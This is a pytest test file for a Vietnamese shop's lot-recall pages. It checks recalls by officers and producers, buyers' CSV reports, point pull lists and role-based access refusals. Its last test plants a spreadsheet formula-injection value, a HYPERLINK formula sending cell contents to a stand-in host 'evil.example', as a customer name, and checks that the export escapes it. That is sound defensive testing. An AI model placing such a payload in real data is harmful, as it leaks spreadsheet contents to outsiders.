"""The recall pages: the trade department recalls a lot by its trace code (or product and lot code) and reads the
buyers report (page and CSV); a producer recalls its own lot; each point prints its pull list. Every refusal:
wrong roles 403, guests to login, another producer's lot 404, another point's pull list 403, no reason, twice."""
import codecs

import pytest
import sqlalchemy as sa
from bs4 import BeautifulSoup

from shop.accounts.models import Role, User
from shop.core.clock import today
from shop.extensions import db
from shop.inventory.availability import availability_of_product
from shop.inventory.models import Lot
from shop.orders import services as orders
from shop.orders.models import Order, OrderStatus
from shop.producers.services import attach_member
from shop.recalls import services
from tests.conftest import csrf_token, login, post_form
from tests.factories import make_point, make_point_manager, make_product, make_stock, make_user
from tests.orders.conftest import CONTACT
from tests.test_accessibility import assert_accessible


class Site:
    """DN-XL-01 (managed by xuanloc@) holds lot BAD (5) of 'Hạt điều rang muối' and lot OWN (2) of another
    producer's honey; DN-BH-01 holds BAD (4). Accounts: officer, owner (the cashew producer), stranger (the honey
    producer), xuanloc (manager), buyer (customer)."""

    def __init__(self, app):
        self.app = app
        with app.app_context():
            xl = make_point("DN-XL-01", name="Điểm OCOP Xuân Lộc")
            bh = make_point("DN-BH-01", name="Điểm OCOP Biên Hòa")
            manager = make_point_manager(xl, email="xuanloc@example.vn")
            make_user(Role.TRADE_OFFICER, email="officer@example.vn")
            make_user(Role.CUSTOMER, email="buyer@example.vn")
            product = make_product(name="Hạt điều rang muối", price_vnd=120_000)
            attach_member(product.producer, make_user(Role.PRODUCER, email="owner@example.vn"))
            honey = make_product(name="Mật ong rừng")
            attach_member(honey.producer, make_user(Role.PRODUCER, email="stranger@example.vn"))
            make_stock(xl, product, manager, lot_code="BAD", quantity=5)
            make_stock(bh, product, manager, lot_code="BAD", quantity=4)
            make_stock(xl, honey, manager, lot_code="OWN", quantity=2)
            order = orders.create_order(xl, [(product, 2)], fulfilment="pickup", payment_method="pay_at_pickup",
                                        contact=CONTACT)
            db.session.commit()
            lot = db.session.scalar(sa.select(Lot).where(Lot.lot_code == "BAD"))
            honey_lot = db.session.scalar(sa.select(Lot).where(Lot.lot_code == "OWN"))
            self.lot_id, self.trace_code, self.honey_lot_id = lot.id, lot.trace_code, honey_lot.id
            self.product_id, self.order_number, self.slug = product.id, order.number, product.slug

    def lot(self, lot_id=None) -> Lot:
        return db.session.get(Lot, lot_id or self.lot_id)

    def recall_now(self, reason="Nhiễm nấm mốc"):
        with self.app.app_context():
            officer = db.session.scalar(sa.select(User).where(User.email == "officer@example.vn"))
            services.recall(self.lot(), reason=reason, actor=officer)
            db.session.commit()


@pytest.fixture
def site(app) -> Site:
    return Site(app)


@pytest.fixture
def client(app):
    client = app.test_client()
    client.get("/lang/en")  # messages are asserted in English
    return client


def soup(response) -> BeautifulSoup:
    return BeautifulSoup(response.get_data(as_text=True), "html.parser")


# ----------------------------------------------------------------------------------------- the department

def test_an_officer_recalls_a_lot_by_its_trace_code_and_reads_who_bought_it(client, site):
    login(client, "officer@example.vn")
    form = client.get("/department/recalls/new")
    assert form.status_code == 200
    assert_accessible(soup(form), "/department/recalls/new")

    response = post_form(client, "/department/recalls/new",
                         {"trace_code": site.trace_code.lower(), "product_id": "0", "reason": "Nhiễm nấm mốc"})
    assert response.status_code == 302
    assert response.headers["Location"].endswith(f"/department/recalls/{site.lot_id}")
    with site.app.app_context():
        lot = site.lot()
        assert lot.is_recalled and lot.recall_reason == "Nhiễm nấm mốc"
        order = db.session.scalar(sa.select(Order).where(Order.number == site.order_number))
        assert order.status == OrderStatus.CANCELLED

    detail = client.get(f"/department/recalls/{site.lot_id}")
    assert detail.status_code == 200
    page = soup(detail)
    assert_accessible(page, "detail")
    text = page.get_text(" ", strip=True)
    assert "Nhiễm nấm mốc" in text and site.order_number in text and CONTACT.email in text and CONTACT.phone in text
    pulled = {row.th.get_text(" ", strip=True).split()[0]: row.td.get_text(strip=True)
              for row in page.find("table").tbody.find_all("tr")}
    assert pulled == {"DN-BH-01": "4", "DN-XL-01": "5"}

    listing = client.get("/department/recalls")
    assert listing.status_code == 200 and "BAD" in listing.get_data(as_text=True)
    assert_accessible(soup(listing), "/department/recalls")


def test_the_buyers_report_downloads_as_csv_that_excel_reads_in_vietnamese(client, site):
    site.recall_now()
    login(client, "officer@example.vn")
    response = client.get(f"/department/recalls/{site.lot_id}/buyers.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv" and "attachment" in response.headers["Content-Disposition"]
    assert response.headers["Cache-Control"] == "private, no-store"
    assert response.data.startswith(codecs.BOM_UTF8)
    text = response.data.decode("utf-8-sig")
    assert "Nguyễn Thị Hoa" in text and site.order_number in text and "hoa@example.vn" in text


def test_an_officer_may_name_the_lot_by_product_and_lot_code(client, site):
    login(client, "officer@example.vn")
    response = post_form(client, "/department/recalls/new",
                         {"product_id": str(site.product_id), "lot_code": "BAD", "reason": "Sai nhãn"})
    assert response.status_code == 302
    with site.app.app_context():
        assert site.lot().recall_reason == "Sai nhãn"


@pytest.mark.parametrize("data, message", [
    ({"trace_code": "ZZZZZZZZZZ", "reason": "Sai nhãn"}, "No lot matches"),
    ({"product_id": "0", "lot_code": "BAD", "reason": "Sai nhãn"}, "Give the trace code"),
    ({"trace_code": "", "reason": "Sai nhãn"}, "Give the trace code"),
    ({"trace_code": "TRACE", "reason": ""}, "Please fill in this field"),
])
def test_a_recall_without_a_lot_or_a_reason_is_refused(client, site, data, message):
    login(client, "officer@example.vn")
    data = {key: site.trace_code if value == "TRACE" else value for key, value in data.items()}
    response = post_form(client, "/department/recalls/new", data)
    assert response.status_code == 400
    assert message in response.get_data(as_text=True)
    with site.app.app_context():
        assert not site.lot().is_recalled


def test_a_lot_already_recalled_is_refused_with_a_message(client, site):
    site.recall_now()
    login(client, "officer@example.vn")
    response = post_form(client, "/department/recalls/new", {"trace_code": site.trace_code, "reason": "Lần nữa"})
    assert response.status_code == 400
    assert "already recalled" in response.get_data(as_text=True)
    with site.app.app_context():
        assert site.lot().recall_reason == "Nhiễm nấm mốc"


def test_a_lot_not_recalled_has_no_recall_page(client, site):
    login(client, "officer@example.vn")
    assert client.get(f"/department/recalls/{site.lot_id}").status_code == 404
    assert client.get(f"/department/recalls/{site.lot_id}/buyers.csv").status_code == 404
    assert client.get("/department/recalls/999999").status_code == 404


DEPARTMENT_URLS = ["/department/recalls", "/department/recalls/new", "/department/recalls/{lot}",
                   "/department/recalls/{lot}/buyers.csv"]


@pytest.mark.parametrize("email", ["owner@example.vn", "xuanloc@example.vn", "buyer@example.vn"])
def test_only_the_department_reaches_its_recall_pages(client, site, email):
    site.recall_now()
    login(client, email)
    for url in DEPARTMENT_URLS:
        assert client.get(url.format(lot=site.lot_id)).status_code == 403, url
    token = csrf_token(client, "/")
    response = client.post("/department/recalls/new", data={"csrf_token": token, "trace_code": site.trace_code,
                                                            "reason": "x"})
    assert response.status_code == 403


def test_guests_are_sent_to_login(client, site):
    site.recall_now()
    for url in DEPARTMENT_URLS + ["/manage/producer/lots/{lot}/recall", "/manage/points/DN-XL-01/recalls"]:
        response = client.get(url.format(lot=site.lot_id))
        assert response.status_code == 302 and "/account/login" in response.headers["Location"], url


# ------------------------------------------------------------------------------------------------ producers

def test_a_producer_recalls_its_own_lot_after_a_confirmation_page(client, site):
    login(client, "owner@example.vn")
    url = f"/manage/producer/lots/{site.lot_id}/recall"
    page = client.get(url)
    assert page.status_code == 200 and site.trace_code in page.get_data(as_text=True)
    assert_accessible(soup(page), url)
    response = post_form(client, url, {"reason": "Phát hiện dị vật"})
    assert response.status_code == 302 and response.headers["Location"].endswith(url)
    with site.app.app_context():
        assert site.lot().recall_reason == "Phát hiện dị vật"
    after = client.get(url).get_data(as_text=True)
    assert "Phát hiện dị vật" in after and "DN-XL-01" in after


def test_a_producer_cannot_recall_twice_or_without_a_reason(client, site):
    login(client, "owner@example.vn")
    url = f"/manage/producer/lots/{site.lot_id}/recall"
    response = post_form(client, url, {"reason": "  "})
    assert response.status_code == 400
    with site.app.app_context():
        assert not site.lot().is_recalled
    site.recall_now()
    response = post_form(client, url, {"reason": "Lần nữa"})
    assert response.status_code == 400 and "already recalled" in response.get_data(as_text=True)
    with site.app.app_context():
        assert site.lot().recall_reason == "Nhiễm nấm mốc"


def test_another_producers_lot_is_not_found(client, site):
    login(client, "stranger@example.vn")
    url = f"/manage/producer/lots/{site.lot_id}/recall"
    assert client.get(url).status_code == 404
    token = csrf_token(client, f"/manage/producer/lots/{site.honey_lot_id}/recall")
    assert client.post(url, data={"csrf_token": token, "reason": "x"}).status_code == 404
    with site.app.app_context():
        assert not site.lot().is_recalled


@pytest.mark.parametrize("email", ["officer@example.vn", "buyer@example.vn"])
def test_other_roles_are_refused_the_producer_recall(client, site, email):
    login(client, email)
    assert client.get(f"/manage/producer/lots/{site.lot_id}/recall").status_code == 403


# ------------------------------------------------------------------------------------------ pull lists

def test_a_manager_prints_the_pull_list_of_their_point(client, site):
    site.recall_now()
    login(client, "xuanloc@example.vn")
    response = client.get("/manage/points/DN-XL-01/recalls")
    assert response.status_code == 200
    page = soup(response)
    assert_accessible(page, "pull list")
    rows = [[cell.get_text(" ", strip=True) for cell in row.find_all(["th", "td"])]
            for row in page.find("table").tbody.find_all("tr")]
    assert len(rows) == 1 and rows[0][0].startswith("BAD") and rows[0][1:4] == ["Hạt điều rang muối", "5",
                                                                              "Nhiễm nấm mốc"]
    assert page.find("link", href=lambda href: href and href.endswith("css/recalls.css"))


def test_another_points_pull_list_is_refused_and_officers_read_every_one(client, site):
    site.recall_now()
    login(client, "xuanloc@example.vn")
    assert client.get("/manage/points/DN-BH-01/recalls").status_code == 403
    assert client.get("/manage/points/DN-XX-99/recalls").status_code == 404
    officer = site.app.test_client()
    login(officer, "officer@example.vn")
    assert "Nhiễm nấm mốc" in officer.get("/manage/points/DN-BH-01/recalls").get_data(as_text=True)


@pytest.mark.parametrize("email", ["owner@example.vn", "buyer@example.vn"])
def test_other_roles_are_refused_the_pull_list(client, site, email):
    login(client, email)
    assert client.get("/manage/points/DN-XL-01/recalls").status_code == 403


# ------------------------------------------------------------------------------------------- storefront

def test_a_product_whose_only_lot_is_recalled_shows_unavailable(client, site):
    def bands() -> set[str]:
        page = soup(client.get(f"/products/{site.slug}"))
        return {tag["data-band"] for tag in page.find_all(attrs={"data-band": True})}

    assert "out_of_stock" not in bands()
    site.recall_now()
    assert bands() == {"out_of_stock"}
    with site.app.app_context():
        assert all(row.available == 0 for row in availability_of_product(site.product_id, today(), 5))


def test_the_buyers_csv_writes_a_formula_like_name_as_text(client, site):
    from shop.orders.services import Contact
    from tests.core.test_export_escaping import assert_csv_has_no_formula

    name = '=HYPERLINK("http://evil.example/?"&B2,"Hoàn tiền")'
    with site.app.app_context():
        lot = site.lot()
        point = db.session.scalar(sa.select(Order).where(Order.number == site.order_number)).point
        orders.create_order(point, [(lot.product, 1)], fulfilment="pickup", payment_method="pay_at_pickup",
                            contact=Contact(name=name, phone="+84912000111", email="x@example.vn"))
        db.session.commit()
    site.recall_now()
    login(client, "officer@example.vn")
    response = client.get(f"/department/recalls/{site.lot_id}/buyers.csv")
    assert response.status_code == 200
    assert_csv_has_no_formula(response.data, [name])
